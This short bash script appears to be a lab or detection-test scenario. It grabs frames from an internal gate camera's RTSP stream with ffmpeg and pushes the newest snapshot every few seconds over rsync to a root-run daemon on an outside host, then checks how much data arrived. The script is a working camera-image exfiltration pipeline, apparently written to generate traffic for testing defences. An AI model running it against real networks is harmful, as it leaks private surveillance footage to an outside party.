#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=snapshot-push half=report tool=ffmpeg,rsync camera=10.20.0.11 far=out ready=out:8730 seconds=50 parts=dns,camera-gate,recorder-gate,nas,outside-web
# ffmpeg keeps one file with the newest picture of gate; rsync gives it to a daemon outside every four seconds, packed.
if [ "$1" = out ]; then mkdir -p "$LAB/away"; printf '%s\n' 'use chroot = no' 'uid = root' 'gid = root' "log file = $LAB/away.log" 'transfer logging = yes' "[in]" "path = $LAB/away" 'read only = no' >"$LAB/r.conf"; exec timeout 70 rsync --daemon --no-detach --address=203.0.113.66 --port=8730 --config="$LAB/r.conf"; fi
timeout 48 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -vf fps=1/3,scale=1280:-2 -q:v 1 -update 1 -y "$LAB/now.jpg" &
sleep 6; for n in 1 2 3 4 5 6 7 8 9 10; do rsync -z --whole-file --ignore-times "$LAB/now.jpg" "rsync://203.0.113.66:8730/in/now-$n.jpg"; sleep 3.6; done
[ "$(du -sb "$LAB/away" | cut -f1)" -gt 300000 ]
